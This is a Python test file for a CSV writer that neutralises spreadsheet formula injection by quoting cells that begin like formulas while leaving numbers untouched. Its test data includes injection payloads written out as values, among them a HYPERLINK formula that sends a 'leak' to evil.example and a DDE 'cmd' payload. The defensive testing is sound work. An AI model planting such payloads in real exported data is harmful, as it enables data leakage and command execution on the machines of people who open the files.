"""The one CSV writer (assay.problems.csv_text): a cell a spreadsheet would run as a formula is written as
text, a number stays a number, and every cell reads back as written otherwise."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.problems import csv_text, spreadsheet_cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak","open")',
            '\'=HYPERLINK("http://evil.example/?leak","open")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("queries[0].id", "queries[0].id"),
        ("", ""),
        # Numbers are numbers, not formulas: left as they are.
        ("-0.12", "-0.12"),
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-.5", "-.5"),
    ],
)
def test_a_formula_start_gets_a_quote_and_a_number_does_not(cell: str, written: str) -> None:
    assert spreadsheet_cell(cell) == written


def test_numbers_still_read_as_numbers_and_formulas_as_text() -> None:
    text = csv_text(("where", "value"), [("a", "-0.12"), ("b", "=1+1"), ("c", "+3")])
    rows = list(csv.reader(io.StringIO(text)))
    assert [float(rows[1][1]), float(rows[3][1])] == [-0.12, 3.0]
    assert rows[2][1] == "'=1+1"


@given(st.lists(st.text(max_size=20), min_size=1, max_size=4))
def test_no_written_cell_starts_a_formula_unless_it_is_a_number(cells: list[str]) -> None:
    (row,) = list(csv.reader(io.StringIO(csv_text(cells, []), newline="")))
    for original, cell in zip(cells, row, strict=True):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell)  # only a number may begin so
            assert cell == original
        else:
            assert cell in (original, "'" + original)
